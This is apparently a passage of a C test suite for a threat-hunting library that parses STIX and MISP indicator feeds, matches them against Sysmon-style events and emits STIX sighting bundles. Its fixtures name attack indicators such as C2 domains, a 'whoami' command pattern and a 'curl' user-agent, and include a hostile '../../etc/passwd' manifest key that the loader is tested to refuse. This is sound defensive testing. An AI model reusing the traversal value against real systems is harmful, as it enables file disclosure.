        STIX_IND(ID4, "[ipv4-addr:value = '1.2.3.4'] WITHIN 300 SECONDS", VALID) ",\n"
        STIX_IND(ID5, "[network-traffic:protocols[*] = 'tcp']", VALID) ",\n"
        STIX_IND(ID6, "[ipv4-addr:value = '1.2.3.400']", VALID) ",\n"
        STIX_IND(ID7, "[ipv4-addr:value = '1.2.3.4'", VALID) ",\n"
        STIX_IND(ID8, "[ipv4-addr:value = '1.2.3.4'] AND [ipv4-addr:value = '1.2.3.5']", VALID) ",\n"
        "{\"type\":\"indicator\",\"spec_version\":\"2.1\",\"id\":\"indicator--" ID9 "\",\"pattern\":\"x\","
        "\"pattern_type\":\"sigma\",\"valid_from\":\"2021-01-01T00:00:00Z\"},\n"
        STIX_IND("7c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f", "[ipv4-addr:value = '1.2.3.4']", VALID ",\"revoked\":true") ",\n"
        STIX_IND("8c8d9b4a-5b0f-4b7c-9a1e-0a0b0c0d0e0f", "[ipv4-addr:value = '1.2.3.4']",
                 ",\"valid_from\":\"2021-01-01T00:00:00Z\",\"valid_until\":\"2020-01-01T00:00:00Z\"")
        "\n]}\n";
    tr_iocset *set = set_from("b.json", bundle);
    const tr_iocset_stats *s = tr_iocset_get_stats(set);
    CHECK_INT(s->counts.loaded, 0);
    CHECK_INT(s->counts.rejected, 10);
    CHECK_INT(s->counts.unsupported, 7);
    CHECK_INT(s->counts.revoked, 1);
    CHECK_CONTAINS(diag_text, "indicator--" ID1 ": pattern not supported: offset 17: the != operator");
    CHECK_CONTAINS(diag_text, "indicator--" ID2 ": pattern not supported");
    CHECK_CONTAINS(diag_text, "FOLLOWEDBY");
    CHECK_CONTAINS(diag_text, "indicator--" ID3 ": pattern not supported: offset 1: object path windows-registry-key:key");
    CHECK_CONTAINS(diag_text, "indicator--" ID4 ": pattern not supported: offset 30: qualifiers");
    CHECK_CONTAINS(diag_text, "indicator--" ID5 ": pattern not supported: no comparison");
    CHECK_CONTAINS(diag_text, "indicator--" ID6 ": pattern not valid");
    CHECK_CONTAINS(diag_text, "indicator--" ID7 ": pattern not valid: offset 28: expected ']'");
    CHECK_CONTAINS(diag_text, "indicator--" ID8 ": pattern not supported: offset 30: AND between observations");
    CHECK_CONTAINS(diag_text, "indicator--" ID9 ": pattern_type 'sigma' is not supported");
    CHECK_CONTAINS(diag_text, "valid_until is not after valid_from");
    CHECK_CONTAINS(diag_text, "b.json|line 2|");
    tr_iocset_destroy(set);
}

static void ioc_stix_validity_window(void)
{
    const char *bundle = "{\"type\":\"bundle\",\"id\":\"bundle--44af6c39-c09b-49c5-9de2-394224b04982\",\"objects\":[\n"
        STIX_IND(ID1, "[ipv4-addr:value = '203.0.113.7']",
                 ",\"valid_from\":\"2021-03-01T00:00:00Z\",\"valid_until\":\"2021-04-01T00:00:00Z\"")
        "]}";
    const char *events = SYSMON_AT("2021-02-28T23:59:59Z", "\"DestinationIp\":\"203.0.113.7\"")
        SYSMON_AT("2021-03-01T00:00:00Z", "\"DestinationIp\":\"203.0.113.7\"")
        SYSMON_AT("2021-03-15T12:00:00Z", "\"DestinationIp\":\"203.0.113.7\"")
        SYSMON_AT("2021-04-01T00:00:00Z", "\"DestinationIp\":\"203.0.113.7\"")
        "{\"EventData\":{\"DestinationIp\":\"203.0.113.7\"}}\n"; /* no time: outside any window */
    HITS("b.json", bundle, events, 2);
    /* the same value from a list has no window */
    HITS("l.txt", "203.0.113.7\n", events, 5);
}

/* ---------------------------------------------------------------- MISP */

static const char misp_event[] =
    "{\"Event\":{\"uuid\":\"5f6a0000-0000-4000-8000-00000000e001\",\"info\":\"Exchange intrusion\","
    "\"threat_level_id\":\"2\",\"Tag\":[{\"name\":\"tlp:amber\"}],\n"
    "\"Attribute\":[\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000001\",\"type\":\"ip-dst\",\"value\":\"203.0.113.7\",\"to_ids\":true,"
    "\"Tag\":[{\"name\":\"c2\"}]},\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000002\",\"type\":\"domain\",\"value\":\"evil.com\",\"to_ids\":false},\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000003\",\"type\":\"sha256\","
    "\"value\":\"275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f\",\"to_ids\":true},\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000004\",\"type\":\"regkey\",\"value\":\"HKLM\\\\x\",\"to_ids\":true},\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000005\",\"type\":\"domain|ip\",\"value\":\"c2.bad.org|198.51.100.5\","
    "\"to_ids\":true},\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000006\",\"type\":\"url\",\"value\":\"http://x.org/a\",\"to_ids\":true,"
    "\"deleted\":true}\n"
    "],\n"
    "\"Object\":[{\"name\":\"file\",\"Attribute\":[\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000007\",\"type\":\"filename\",\"value\":\"help.aspx\",\"to_ids\":true},\n"
    "{\"uuid\":\"5f6a0000-0000-4000-8000-000000000008\",\"type\":\"md5\",\"value\":\"44d88612fea8a8f36de82e1278abb02\","
    "\"to_ids\":true}\n"
    "]}]}}\n";

static void ioc_misp_event(void)
{
    tr_iocset *set = set_from("event.json", misp_event);
    const tr_iocset_stats *s = tr_iocset_get_stats(set);
    CHECK_INT(s->counts.loaded, 5); /* ip, sha256, domain and ip of domain|ip, file name */
    CHECK_INT(s->counts.not_ids, 1);
    CHECK_INT(s->counts.rejected, 2);
    CHECK_INT(s->counts.unsupported, 1);
    CHECK_CONTAINS(diag_text, "event.json|line 6|5f6a0000-0000-4000-8000-000000000004: MISP type 'regkey'");
    CHECK_CONTAINS(diag_text, "line 12|5f6a0000-0000-4000-8000-000000000008: '44d88612fea8a8f36de82e1278abb02'");
    CHECK_INT(tr_iocset_source(set, 0)->format, TR_IOC_FORMAT_MISP);
    const tr_rule_info *r = tr_iocset_indicator(set, 0);
    CHECK(r && strcmp(r->id, "5f6a0000-0000-4000-8000-000000000001") == 0);
    CHECK(r && r->level == TR_LEVEL_MEDIUM && r->ntags == 2);
    if (r && r->ntags == 2) {
        CHECK(strcmp(r->tags[0], "tlp:amber") == 0);
        CHECK(strcmp(r->tags[1], "c2") == 0);
    }
    CHECK(r && r->line == 3);
    ioc_run run;
    const char *events = SYSMON("\"DestinationIp\":\"203.0.113.7\"") SYSMON("\"QueryName\":\"evil.com\"")
        SYSMON("\"QueryName\":\"www.c2.bad.org\"") SYSMON("\"DestinationIp\":\"198.51.100.5\"")
            SYSMON("\"TargetFilename\":\"D:\\\\owa\\\\help.aspx\"") SYSMON("\"Url\":\"http://x.org/a\"");
    long n = hunt(set, "e.jsonl", events, &run, false);
    CHECK_INT(n, 4);
    tr_iocset_destroy(set);
    /* a search result wraps events in "response" */
    char wrapped[4096];
    snprintf(wrapped, sizeof wrapped, "{\"response\":[%.*s]}", (int)(sizeof misp_event - 2), misp_event);
    set = set_from("search.json", wrapped);
    CHECK_INT(tr_iocset_get_stats(set)->counts.loaded, 5);
    tr_iocset_destroy(set);
}

static void ioc_misp_feed_folder(void)
{
    const char *dir = test_tmpdir();
    char path[600];
    write_text("feed/manifest.json",
               "{\"5f6a0000-0000-4000-8000-00000000e001\":{\"info\":\"one\",\"timestamp\":\"1600000000\"},\n"
               " \"5f6a0000-0000-4000-8000-00000000e002\":{\"info\":\"two\",\"timestamp\":\"1600000000\"},\n"
               " \"5f6a0000-0000-4000-8000-00000000e003\":{\"info\":\"missing\",\"timestamp\":\"1600000000\"},\n"
               " \"../../etc/passwd\":{\"info\":\"hostile\",\"timestamp\":\"1600000000\"}}\n");
    write_text("feed/5f6a0000-0000-4000-8000-00000000e001.json", misp_event);
    write_text("feed/5f6a0000-0000-4000-8000-00000000e002.json",
               "{\"Event\":{\"info\":\"two\",\"Attribute\":[{\"uuid\":\"5f6a0000-0000-4000-8000-0000000000aa\","
               "\"type\":\"hostname\",\"value\":\"second.example\",\"to_ids\":true}]}}");
    diag_reset();
    tr_iocset *set;
    tr_iocset_options o = {collect_diag, NULL};
    CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
    snprintf(path, sizeof path, "%s/feed", dir);
    CHECK_INT(tr_iocset_add_path(set, path), TR_OK);
    CHECK_INT(tr_iocset_compile(set), TR_OK);
    const tr_iocset_stats *s = tr_iocset_get_stats(set);
    CHECK_INT(s->files, 2);
    CHECK_INT(s->counts.loaded, 6);
    CHECK_INT(tr_iocset_source_count(set), 2);
    CHECK_CONTAINS(diag_text, "00000000e003.json||listed in the feed's manifest.json but missing");
    CHECK_CONTAINS(diag_text, "key '../../etc/passwd' is not an event uuid");
    tr_iocset_destroy(set);
    /* the manifest given as a file reads the same feed */
    diag_reset();
    CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
    snprintf(path, sizeof path, "%s/feed/manifest.json", dir);
    CHECK_INT(tr_iocset_add_path(set, path), TR_OK);
    CHECK_INT(tr_iocset_compile(set), TR_OK);
    CHECK_INT(tr_iocset_get_stats(set)->counts.loaded, 6);
    tr_iocset_destroy(set);
    /* an event file that is a manifest listing itself is not followed */
    const char *self = "{\"5f6a0000-0000-4000-8000-00000000e00f\":{\"info\":\"loop\",\"timestamp\":\"1\"}}";
    write_text("loop/manifest.json", self);
    write_text("loop/5f6a0000-0000-4000-8000-00000000e00f.json", self);
    diag_reset();
    CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
    snprintf(path, sizeof path, "%s/loop", dir);
    CHECK_INT(tr_iocset_add_path(set, path), TR_OK);
    CHECK_CONTAINS(diag_text, "a feed manifest inside a MISP feed: not followed");
    tr_iocset_destroy(set);
    /* a folder without a manifest: every file in it */
    write_text("lists/a.txt", "203.0.113.7\n");
    write_text("lists/sub/b.csv", "type,value\ndomain,evil.com\n");
    diag_reset();
    CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
    snprintf(path, sizeof path, "%s/lists", dir);
    CHECK_INT(tr_iocset_add_path(set, path), TR_OK);
    snprintf(path, sizeof path, "%s/nonexistent", dir);
    CHECK_INT(tr_iocset_add_path(set, path), TR_ERR_NOTFOUND);
    CHECK_INT(tr_iocset_compile(set), TR_OK);
    CHECK_INT(tr_iocset_get_stats(set)->counts.loaded, 2);
    CHECK_INT(tr_iocset_add_path(set, path), TR_ERR_ARG); /* compiled: closed */
    tr_iocset_destroy(set);
}

/* ---------------------------------------------------------------- bad input */

static void ioc_bad_files_reported(void)
{
    struct {
        const char *text, *want;
    } cases[] = {
        {"{\"type\":\"bundle\",\"objects\":[\n{\"type\":\"indicator\",}]}", "line 2|not valid JSON: expected a key"},
        {"{\"type\":\"bundle\",\n\"objects\":[\"\\x\"]}", "line 2|not valid JSON: unknown escape"},
        {"[{\"a\":1}]", "neither of STIX objects nor of MISP events"},
        {"{\"hello\":\"world\"}", "neither a STIX bundle nor a MISP event"},
        {"\xff\xfe" "1\0.\0", "UTF-16 text"},
        {"{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"id\":\"indicator--x\",\"pattern\":\"[ipv4-addr:value = '1.2.3.4']\",\"valid_from\":\"yesterday\"}]}",
         "valid_from 'yesterday' is not a timestamp"},
        {"{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"pattern\":\"[ipv4-addr:value = '1.2.3.4']\"}]}",
         "indicator without a valid id"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        diag_reset();
        tr_iocset *set;
        tr_iocset_options o = {collect_diag, NULL};
        CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
        size_t len = i == 4 ? 6 : strlen(cases[i].text);
        CHECK_INT(tr_iocset_add_memory(set, "bad.json", cases[i].text, len), TR_OK);
        CHECK_INT(tr_iocset_compile(set), TR_OK);
        CHECK_INT(tr_iocset_get_stats(set)->counts.loaded, 0);
        CHECK_CONTAINS(diag_text, cases[i].want);
        tr_iocset_destroy(set);
    }
    /* nesting beyond the limit */
    char deep[300];
    memset(deep, '[', 200);
    deep[200] = '\0';
    json_doc d;
    tr_json_doc_init(&d);
    CHECK_INT(tr_json_parse(&d, deep, 200, 1000), TR_ERR_LIMIT);
    tr_json_doc_free(&d);
    tr_json_doc_init(&d);
    static const char pair[] = "{\"a\":[1,2,{\"b\":\"\\ud83d\\ude00\"}]}";
    CHECK_INT(tr_json_parse(&d, pair, sizeof pair - 1, 1000), TR_OK);
    const json_node *a = tr_json_get(&d, json_root(&d), "a");
    CHECK(a && a->count == 3);
    const json_node *b = a ? tr_json_get(&d, &d.nodes[a->first + 2], "b") : NULL;
    CHECK(b && b->len == 4 && memcmp(b->str, "\xf0\x9f\x98\x80", 4) == 0);
    tr_json_doc_free(&d);
    tr_json_doc_init(&d);
    CHECK_INT(tr_json_parse(&d, "[1,2,3,4,5]", 11, 3), TR_ERR_LIMIT); /* the node budget */
    tr_json_doc_free(&d);
}

/* ---------------------------------------------------------------- sightings and STIX output */

static bool rfc3339(const char *s)
{
    regex_t re;
    regcomp(&re, "^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}(\\.[0-9]+)?Z$", REG_EXTENDED | REG_NOSUB);
    bool ok = s && regexec(&re, s, 0, NULL, 0) == 0;
    regfree(&re);
    return ok;
}

static bool stix_id(const char *s, const char *type)
{
    regex_t re;
    regcomp(&re, "^[a-z0-9-]+--[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$",
            REG_EXTENDED | REG_NOSUB);
    bool ok = s && regexec(&re, s, 0, NULL, 0) == 0;
    regfree(&re);
    if (ok && type)
        ok = strncmp(s, type, strlen(type)) == 0 && s[strlen(type)] == '-';
    return ok;
}

/* Checks a STIX 2.1 bundle: required properties per type, identifiers,
 * timestamps, and that every *_ref / *_refs resolves inside the bundle.
 * Returns the number of objects; counts sightings in *nsight. */
static size_t check_bundle(const char *text, size_t *nsight, uint64_t *count_total)
{
    json_doc d;
    tr_json_doc_init(&d);
    int rc = tr_json_parse(&d, text, strlen(text), 1u << 20);
    CHECK_INT(rc, TR_OK);
    if (rc != TR_OK) {
        tr_json_doc_free(&d);
        return 0;
    }
    const json_node *root = json_root(&d);
    CHECK(tr_json_get_str(&d, root, "type") && strcmp(tr_json_get_str(&d, root, "type"), "bundle") == 0);
    CHECK(stix_id(tr_json_get_str(&d, root, "id"), "bundle"));
    const json_node *objs = tr_json_get(&d, root, "objects");
    CHECK(objs && objs->type == J_ARR);
    const char *ids[4096];
    size_t nids = 0;
    for (const json_node *o = json_first(&d, objs); o && nids < 4096; o = json_next(&d, o)) {
        const char *id = tr_json_get_str(&d, o, "id");
        const char *type = tr_json_get_str(&d, o, "type");
        CHECK(type && id);
        if (!type || !id)
            continue;
        if (strcmp(type, "indicator") != 0) /* input indicators keep their ids */
            CHECK(stix_id(id, type));
        for (size_t k = 0; k < nids; k++)
            CHECK(strcmp(ids[k], id) != 0); /* unique */
        ids[nids++] = id;
        CHECK(tr_json_get_str(&d, o, "spec_version") && strcmp(tr_json_get_str(&d, o, "spec_version"), "2.1") == 0);
        static const char *const sdo[] = {"indicator", "identity", "observed-data", "sighting", NULL};
        for (const char *const *t = sdo; *t; t++)
            if (strcmp(type, *t) == 0) {
                CHECK(rfc3339(tr_json_get_str(&d, o, "created")));
                CHECK(rfc3339(tr_json_get_str(&d, o, "modified")));
            }
        if (strcmp(type, "indicator") == 0) {
            CHECK(tr_json_get_str(&d, o, "pattern") != NULL);
            CHECK(tr_json_get_str(&d, o, "pattern_type") && strcmp(tr_json_get_str(&d, o, "pattern_type"), "stix") == 0);
            CHECK(rfc3339(tr_json_get_str(&d, o, "valid_from")));
            /* the pattern we write parses back */
            const char *p = tr_json_get_str(&d, o, "pattern");
            if (p) {
                tr_arena a;
                tr_arena_init(&a, 0);
                ioc_expr *e;
                char err[256];
                tr_iocset *tmp;
                tr_iocset_create(&tmp, NULL);
                int prc = tr_ioc_pattern_parse(p, strlen(p), &a, &e, err, sizeof err, tr_ioc_keep_regex, tmp);
                if (prc != TR_OK) {
                    char m[600];
                    snprintf(m, sizeof m, "pattern %s: %s", p, err);
                    tr_test_fail(__FILE__, __LINE__, m);
                }
                tr_iocset_destroy(tmp);
                tr_arena_free(&a);
            }
        } else if (strcmp(type, "identity") == 0) {
            CHECK(tr_json_get_str(&d, o, "name") != NULL);
        } else if (strcmp(type, "observed-data") == 0) {
            CHECK(rfc3339(tr_json_get_str(&d, o, "first_observed")));
            CHECK(rfc3339(tr_json_get_str(&d, o, "last_observed")));
            const json_node *n = tr_json_get(&d, o, "number_observed");
            CHECK(n && n->type == J_NUM && atoll(n->str) >= 1 && atoll(n->str) <= 999999999);
            const json_node *refs = tr_json_get(&d, o, "object_refs");
            CHECK(refs && refs->type == J_ARR && refs->count >= 1);
        } else if (strcmp(type, "sighting") == 0) {
            (*nsight)++;
            CHECK(tr_json_get_str(&d, o, "sighting_of_ref") != NULL);
            const json_node *c = tr_json_get(&d, o, "count");
            CHECK(c && c->type == J_NUM);
            if (c)
                *count_total += (uint64_t)atoll(c->str);
            const char *fs = tr_json_get_str(&d, o, "first_seen"), *ls = tr_json_get_str(&d, o, "last_seen");
            if (fs || ls) {
                CHECK(rfc3339(fs) && rfc3339(ls));
                CHECK(fs && ls && strcmp(fs, ls) <= 0);
            }
        }
    }
    /* every reference resolves */
    for (const json_node *o = json_first(&d, objs); o; o = json_next(&d, o)) {
        for (const json_node *p = json_first(&d, o); p; p = json_next(&d, p)) {
            size_t kl = p->key_len;
            bool one = kl > 4 && strcmp(p->key + kl - 4, "_ref") == 0;
            bool many = kl > 5 && strcmp(p->key + kl - 5, "_refs") == 0;
            if (!one && !many)
                continue;
            for (const json_node *v = many ? json_first(&d, p) : p; v; v = many ? json_next(&d, v) : NULL) {
                bool found = false;
                for (size_t k = 0; k < nids && !found; k++)
                    found = v->str && strcmp(ids[k], v->str) == 0;
                if (!found) {
                    char m[300];
                    snprintf(m, sizeof m, "%s -> %s does not resolve", p->key, v->str ? v->str : "(not a string)");
                    tr_test_fail(__FILE__, __LINE__, m);
                }
            }
        }
    }
    tr_json_doc_free(&d);
    return nids;
}

static void ioc_sightings_and_stix_output(void)
{
    /* STIX and list indicators together, several hosts and times */
    const char *bundle = "{\"type\":\"bundle\",\"id\":\"bundle--44af6c39-c09b-49c5-9de2-394224b04982\",\"objects\":[\n"
        STIX_IND(ID1, "[ipv4-addr:value = '203.0.113.0/24']", VALID ",\"name\":\"C2 range\"") ",\n"
        STIX_IND(ID2, "[network-traffic:dst_ref.value = '198.51.100.2' AND network-traffic:dst_port = 443]", VALID)
        "]}";
    const char *list = "evil.com\nhelp.aspx\n44d88612fea8a8f36de82e1278abb02f\nC:\\Windows\\Temp\\x.exe\n"
                       "user-agent,python-requests\nusername,svc_backup\nattacker@evil.org\nhttp://x.org/a\n";
    diag_reset();
    tr_iocset *set;
    tr_iocset_options o = {collect_diag, NULL};
    CHECK_INT(tr_iocset_create(&set, &o), TR_OK);
    CHECK_INT(tr_iocset_add_memory(set, "apt.json", bundle, strlen(bundle)), TR_OK);
    CHECK_INT(tr_iocset_add_memory(set, "list.txt", list, strlen(list)), TR_OK);
    CHECK_INT(tr_iocset_compile(set), TR_OK);
    CHECK_INT(diag_errors + diag_warnings, 0);
    const char *events =
        SYSMON_AT("2021-03-03T01:00:00Z", "\"DestinationIp\":\"203.0.113.7\"")
        SYSMON_AT("2021-03-05T01:00:00Z", "\"DestinationIp\":\"203.0.113.8\"")
        "{\"Event\":{\"System\":{\"EventID\":3,\"Computer\":\"EXCH02\",\"TimeCreated\":{\"#attributes\":"
        "{\"SystemTime\":\"2021-03-04T01:00:00Z\"}}},\"EventData\":{\"DestinationIp\":\"203.0.113.9\","
        "\"QueryName\":\"www.evil.com\"}}}\n"
        SYSMON("\"DestinationIp\":\"198.51.100.2\",\"DestinationPort\":443")
        SYSMON("\"TargetFilename\":\"C:\\\\inetpub\\\\help.aspx\",\"Hashes\":\"MD5=44D88612FEA8A8F36DE82E1278ABB02F\"")
        SYSMON("\"Image\":\"C:\\\\Windows\\\\Temp\\\\x.exe\",\"TargetUserName\":\"CORP\\\\svc_backup\"")
        SYSMON("\"Sender\":\"attacker@evil.org\",\"Url\":\"http://x.org/a?b=1\"")
        "{\"EventData\":{\"UserAgent\":\"python-requests/2.25\"}}\n"; /* no time, no host */
    ioc_run run;
    CHECK_INT(hunt(set, "e.jsonl", events, &run, true), 12);
    tr_sighting_log *log = run.log;
    CHECK_INT(tr_sighting_log_count(log), 10);
    tr_sighting s;
    CHECK(tr_sighting_log_get(log, 0, &s));
    CHECK(s.indicator && strcmp(s.indicator->id, "indicator--" ID1) == 0);
    CHECK_INT(s.count, 3);
    char t[TR_TIME_BUFSIZE];
    tr_time_format(s.first, t);
    CHECK_CONTAINS(t, "2021-03-03T01:00:00");
    tr_time_format(s.last, t);
    CHECK_CONTAINS(t, "2021-03-05T01:00:00");
    CHECK_INT(s.nhosts, 2);
    CHECK(s.nhosts == 2 && strcmp(s.hosts[0], "EXCH01") == 0 && strcmp(s.hosts[1], "EXCH02") == 0);
    CHECK(s.field && strcmp(s.field, "Event.EventData.DestinationIp") == 0);
    CHECK(s.value && strcmp(s.value, "203.0.113.7") == 0);
    CHECK(!tr_sighting_log_get(log, 10, &s));
    /* the summary */
    char *sum = NULL;
    size_t sl = 0;
    FILE *f = open_memstream(&sum, &sl);
    CHECK_INT(tr_sighting_log_write_summary(log, f, 0), TR_OK);
    fclose(f);
    CHECK_CONTAINS(sum, "indicators sighted: 10");
    CHECK_CONTAINS(sum, "3  2021-03-03T01:00:00Z  2021-03-05T01:00:00Z  ipv4-addr 203.0.113.0/24 (apt.json) on EXCH01, EXCH02");
    CHECK_CONTAINS(sum, "user-agent python-requests (list.txt)");
    free(sum);
    sum = NULL;
    f = open_memstream(&sum, &sl);
    CHECK_INT(tr_sighting_log_write_summary(log, f, 2), TR_OK);
    fclose(f);
    CHECK_CONTAINS(sum, "... and 8 more indicators");
    free(sum);
    /* the bundle */
    char *stix = NULL;
    f = open_memstream(&stix, &sl);
    CHECK_INT(tr_sighting_log_write_stix(log, f), TR_OK);
    fclose(f);
    size_t nsight = 0;
    uint64_t total = 0;
    size_t nobj = check_bundle(stix, &nsight, &total);
    CHECK_INT(nsight, 10);
    CHECK_INT(total, 12);
    CHECK(nobj >= 10 * 4 + 2);
    CHECK_CONTAINS(stix, "\"sighting_of_ref\":\"indicator--" ID1 "\"");
    CHECK_CONTAINS(stix, "\"pattern\":\"[ipv4-addr:value = '203.0.113.0/24']\"");
    CHECK_CONTAINS(stix, "\"type\":\"ipv4-addr\"");
    CHECK_CONTAINS(stix, "\"value\":\"203.0.113.7\"");
    CHECK_CONTAINS(stix, "\"name\":\"EXCH02\",\"identity_class\":\"system\"");
    CHECK_CONTAINS(stix, "\"hashes\":{\"MD5\":\"44d88612fea8a8f36de82e1278abb02f\"}");
    CHECK_CONTAINS(stix, "\"type\":\"domain-name\"");
    CHECK_CONTAINS(stix, "\"value\":\"www.evil.com\"");
    CHECK_CONTAINS(stix, "\"pattern\":\"[domain-name:value = 'evil.com']\"");
    CHECK_CONTAINS(stix, "\"pattern\":\"[file:parent_directory_ref.path = 'c:\\\\\\\\windows\\\\\\\\temp' AND file:name = 'x.exe']\"");
    CHECK_CONTAINS(stix, "\"type\":\"directory\"");
    CHECK_CONTAINS(stix, "\"type\":\"x-traccia-observed-value\"");
    CHECK_CONTAINS(stix, "\"type\":\"user-account\"");
    CHECK_CONTAINS(stix, "\"type\":\"email-addr\"");
    CHECK_CONTAINS(stix, "\"value\":\"http://x.org/a?b=1\"");
    free(stix);
    tr_sighting_log_destroy(log);
    tr_iocset_destroy(set);
}

static void ioc_sighting_log_is_bounded(void)
{
    /* 100 hosts, 1000 sightings: the first 16 hosts kept, the rest counted */
    tr_iocset *set = set_from("l.txt", "203.0.113.7\n");
    tr_ioc_matcher *m;
    tr_sighting_log *log;
    CHECK_INT(tr_ioc_matcher_create(&m, set), TR_OK);
    CHECK_INT(tr_sighting_log_create(&log, set), TR_OK);
    char *ev = malloc(1000 * 256);
    size_t o = 0;
    for (int i = 0; i < 1000; i++)
        o += (size_t)sprintf(ev + o, "{\"Computer\":\"HOST%03d\",\"DestinationIp\":\"203.0.113.7\"}\n", i % 100);
    ioc_run r;
    memset(&r, 0, sizeof r);
    r.m = m;
    r.log = log;
    scan_result sr = {0};
    sr.hook = run_hook;
    sr.hook_ctx = &r;
    scan_memory(&sr, "e.jsonl", ev, o);
    scan_result_free(&sr);
    tr_sighting s;
    CHECK(tr_sighting_log_get(log, 0, &s));
    CHECK_INT(s.count, 1000);
    CHECK_INT(s.nhosts, TR_SIGHTING_MAX_HOSTS);
    CHECK_INT(s.hosts_more, 1000 - 10 * TR_SIGHTING_MAX_HOSTS);
    CHECK(s.first == TR_TIME_NONE);
    char *stix = NULL;
    size_t sl;
    FILE *f = open_memstream(&stix, &sl);
    CHECK_INT(tr_sighting_log_write_stix(log, f), TR_OK);
    fclose(f);
    size_t nsight = 0;
    uint64_t total = 0;
    check_bundle(stix, &nsight, &total);
    CHECK_INT(nsight, 1);
    CHECK_INT(total, 1000);
    free(stix);
    free(ev);
    tr_sighting_log_destroy(log);
    tr_ioc_matcher_destroy(m);
    tr_iocset_destroy(set);
}

static void ioc_sighting_logs_merge(void)
{
    /* one log per thread, merged: the same as one log over everything */
    tr_iocset *set = set_from("l.txt", "203.0.113.7\nevil.com\n");
    const char *part1 = SYSMON_AT("2021-03-05T00:00:00Z", "\"DestinationIp\":\"203.0.113.7\"")
        "{\"Computer\":\"WS02\",\"QueryName\":\"evil.com\"}\n";
    const char *part2 = "{\"Event\":{\"System\":{\"Computer\":\"EXCH02\",\"TimeCreated\":{\"#attributes\":"
                        "{\"SystemTime\":\"2021-03-01T00:00:00Z\"}}},\"EventData\":{\"DestinationIp\":\"203.0.113.7\"}}}\n";
    ioc_run a, b;
    CHECK_INT(hunt(set, "p1.jsonl", part1, &a, true), 2);
    CHECK_INT(hunt(set, "p2.jsonl", part2, &b, true), 1);
    CHECK_INT(tr_sighting_log_merge(a.log, b.log), TR_OK);
    CHECK_INT(tr_sighting_log_count(a.log), 2);
    tr_sighting s;
    CHECK(tr_sighting_log_get(a.log, 0, &s));
    CHECK_INT(s.count, 2);
    CHECK_INT(s.nhosts, 2);
    char t[TR_TIME_BUFSIZE];
    tr_time_format(s.first, t);
    CHECK_CONTAINS(t, "2021-03-01T00:00:00");
    tr_time_format(s.last, t);
    CHECK_CONTAINS(t, "2021-03-05T00:00:00");
    CHECK(s.value && strcmp(s.value, "203.0.113.7") == 0);
    tr_iocset *other = set_from("m.txt", "evil.com\n");
    tr_sighting_log *ol;
    CHECK_INT(tr_sighting_log_create(&ol, other), TR_OK);
    CHECK_INT(tr_sighting_log_merge(a.log, ol), TR_ERR_ARG); /* different sets */
    tr_sighting_log_destroy(ol);
    tr_iocset_destroy(other);
    tr_sighting_log_destroy(a.log);
    tr_sighting_log_destroy(b.log);
    tr_iocset_destroy(set);
}

/* ---------------------------------------------------------------- scale and faults */

static void ioc_many_indicators(void)
{
    /* 200,000 indicators of every kind: loads, and finds exactly the planted ones */
    size_t cap = 200000 * 80, o = 0;
    char *text = malloc(cap);
    for (unsigned i = 0; i < 200000; i++) {
        switch (i % 5) {
        case 0: o += (size_t)sprintf(text + o, "10.%u.%u.%u\n", (i >> 16) & 255, (i >> 8) & 255, i & 255); break;
        case 1: o += (size_t)sprintf(text + o, "host%u.example.net\n", i); break;
        case 2: o += (size_t)sprintf(text + o, "%032x\n", i * 2654435761u); break;
        case 3: o += (size_t)sprintf(text + o, "tool%u.exe\n", i); break;
        default: o += (size_t)sprintf(text + o, "http://site%u.example.org/p/%u.php\n", i, i); break;
        }
    }
    text[o] = '\0';
    tr_iocset *set = set_from("big.txt", text);
    CHECK_INT(tr_iocset_get_stats(set)->counts.loaded, 200000);
    char want[64];
    snprintf(want, sizeof want, "%032x", 77777u * 2654435761u);
    char events[4096];
    snprintf(events, sizeof events,
             SYSMON("\"DestinationIp\":\"10.1.0.5\",\"QueryName\":\"a.host11.example.net\",\"Hash\":\"%s\","
                    "\"Image\":\"C:\\\\x\\\\tool13.exe\",\"Url\":\"http://site14.example.org/p/14.php\"")
                 SYSMON("\"DestinationIp\":\"10.1.0.6\",\"QueryName\":\"host12.example.net\","
                        "\"Image\":\"C:\\\\x\\\\tool14.exe\",\"Url\":\"http://site14.example.org/p/15.php\""),
             want);
    ioc_run r;
    /* 10.1.0.5 is i = 65541 (i % 5 == 1: a host), so no address; host11, the
     * hash 77777 (% 5 == 2), tool13 and site14 are planted */
    CHECK_INT(hunt(set, "e.jsonl", events, &r, false), 4);
    tr_iocset_destroy(set);
    free(text);
}

static long fail_at, alloc_count; /* the loop's position and what the run used */

/* Load, compile, match and write with the Nth allocation failing, for
 * every N: each step fails cleanly or succeeds; no leak (sanitizer build). */
static void ioc_fails_cleanly_at_each_allocation(void)
{
    const char *bundle = "{\"type\":\"bundle\",\"id\":\"bundle--44af6c39-c09b-49c5-9de2-394224b04982\",\"objects\":[\n"
        STIX_IND(ID1, "[ipv4-addr:value = '203.0.113.0/24']", VALID) ",\n"
        STIX_IND(ID2, "[network-traffic:dst_ref.value = '198.51.100.2' AND network-traffic:dst_port = 443]", VALID) ",\n"
        STIX_IND(ID3, "[process:command_line MATCHES 'whoami']", VALID) "]}";
    const char *list = "evil.com\nhelp.aspx\nuser-agent,curl\n";
